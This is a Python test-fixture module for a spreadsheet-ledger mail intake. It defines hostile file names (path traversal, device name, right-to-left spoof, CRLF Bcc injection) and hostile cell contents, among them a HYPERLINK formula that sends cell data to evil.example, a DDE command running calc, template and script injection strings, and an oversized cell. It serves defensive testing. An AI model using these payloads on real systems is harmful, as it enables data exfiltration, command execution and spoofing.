"""Right answers with something in them that is meant to hurt, or might: read as the plain text that it is."""

from __future__ import annotations

from tests.ledger.corpus.hands import SHEET1, Hand, Sent, repacked, types, with_cell

NAMES = {
    "name_that_climbs_out": "../../../台账.xlsx",
    "name_of_a_device": "CON.xlsx",
    "name_of_300_characters": "关于报送政务公开工作台账的函" * 21 + ".xlsx",
    "name_that_reads_backwards": "台账\u202excod.xlsx",
    "name_with_a_line_break": "台账\r\nBcc: all@unit.example\r\n.xlsx",
}
"""Case → the name its mail gives the attachment; a folder holds it under one that a file system takes."""


def text_that_looks_like_a_formula(hand: Hand) -> Sent:
    acts = types(J6='=HYPERLINK("http://evil.example/?"&A1,"点击查看")', N8="=cmd|' /C calc'!A0")
    return Sent("台账.xlsx", hand.filled(acts))


def text_that_begins_like_a_formula(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled(types(J6="+8家单位已完成", N8="-11月上传", J10="@全体科室：已解读7件")))


def text_that_looks_like_a_template(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled(types(J6="{{ 7*7 }}{% for x in y %}{{ config }}")))


def text_that_looks_like_markup(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled(types(J6="<script>alert(1)</script>&nbsp;]]> <w:p/>", D3="王<b>敏</b>")))


def text_of_forty_thousand_characters(hand: Hand) -> Sent:
    text = f"<is><t>{'很长的进展。' * 7000}</t></is>"
    return Sent("台账.xlsx", repacked(hand.filled(), {SHEET1: with_cell("J6", text, "inlineStr")}))


def text_that_turns_the_line_round(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled(types(J6="已完成\u202e了没还\u202c")))


def name_that_climbs_out(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled())


def name_of_a_device(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled())


def name_of_300_characters(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled())


def name_that_reads_backwards(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled())


def name_with_a_line_break(hand: Hand) -> Sent:
    return Sent("台账.xlsx", hand.filled())
